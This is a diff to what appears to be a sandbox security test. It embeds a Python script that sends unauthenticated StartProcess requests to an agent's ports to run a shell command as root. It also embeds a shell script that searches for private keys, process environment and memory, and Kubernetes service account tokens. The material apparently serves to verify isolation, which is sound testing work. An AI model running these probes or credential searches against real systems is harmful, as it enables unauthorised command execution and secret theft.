@@ -31,16 +31,18 @@ import (
 // TLS without a client certificate, on the API and the exec port. The
 // request is StartProcess, which runs a command as the box's root: it
 // writes argv[2] in the target box. It prints one line per attempt,
-// "ANSWERED" if the agent accepted the request.
+// "ANSWERED" if the agent's HTTP server parsed the request (any HTTP
+// answer: a 409 for a process id already taken means it was driven too).
 const attackPy = `
 import json, socket, ssl, sys
 host, marker = sys.argv[1], sys.argv[2]
-body = json.dumps({"id": "pwn", "exec": {"argv": ["/bin/sh", "-c", "echo pwned > " + marker]}}).encode()
-req = (b"POST /agent.v1.AgentService/StartProcess HTTP/1.1\r\nHost: agent\r\nContent-Type: application/json\r\n"
-       b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(body)) + body
-def talk(s):
+def request(id):
+    body = json.dumps({"id": id, "exec": {"argv": ["/bin/sh", "-c", "echo pwned > " + marker]}}).encode()
+    return (b"POST /agent.v1.AgentService/StartProcess HTTP/1.1\r\nHost: agent\r\nContent-Type: application/json\r\n"
+            b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(body)) + body
+def talk(s, id):
     s.settimeout(5)
-    s.sendall(req)
+    s.sendall(request(id))
     data = b""
     while True:
         b = s.recv(4096)
@@ -48,17 +50,17 @@ def talk(s):
             return data
         data += b
 def plain(port):
-    return talk(socket.create_connection((host, port), 5))
+    return talk(socket.create_connection((host, port), 5), "pwn-plain-%s-%d-%s" % (host, port, marker[-9:]))
 def tls(port):
     ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
     ctx.check_hostname = False
     ctx.verify_mode = ssl.CERT_NONE
-    return talk(ctx.wrap_socket(socket.create_connection((host, port), 5)))
+    return talk(ctx.wrap_socket(socket.create_connection((host, port), 5)), "pwn-tls-%s-%d-%s" % (host, port, marker[-9:]))
 for name, f in (("plain", plain), ("tls-no-cert", tls)):
     for port in (7700, 7701):
         try:
             r = f(port)
-            print(name, port, "ANSWERED" if r.startswith(b"HTTP/1.1 200") else "refused", repr(r[:40]))
+            print(name, port, "ANSWERED" if r.startswith(b"HTTP/") else "refused", repr(r[:40]))
         except Exception as e:
             print(name, port, "refused", type(e).__name__)
 `
@@ -66,8 +68,8 @@ for name, f in (("plain", plain), ("tls-no-cert", tls)):
 // stealSh looks, as box root, for the key material the agent was given:
 // its TLS files, its environment and memory, a service account token.
 const stealSh = `
-ls -A /.sbx/run/tls 2>&1 | sed 's/^/tlsdir: /'
-grep -rl "PRIVATE KEY" /.sbx /etc /tmp /root 2>/dev/null | sed 's/^/key file: /'
+ls -A /.sbx/run/tls 2>/dev/null | sed 's/^/tlsdir: /'
+find /.sbx /etc /tmp /root -type f ! -path /.sbx/sbx-agent -exec grep -l "PRIVATE KEY" {} + 2>/dev/null | sed 's/^/key file: /'
 cat /proc/1/environ >/dev/null 2>&1 && echo "read: /proc/1/environ"
 dd if=/proc/1/mem bs=1 count=1 skip=4194304 >/dev/null 2>&1 && echo "read: /proc/1/mem"
 ls /var/run/secrets/kubernetes.io 2>/dev/null | sed 's/^/sa: /'
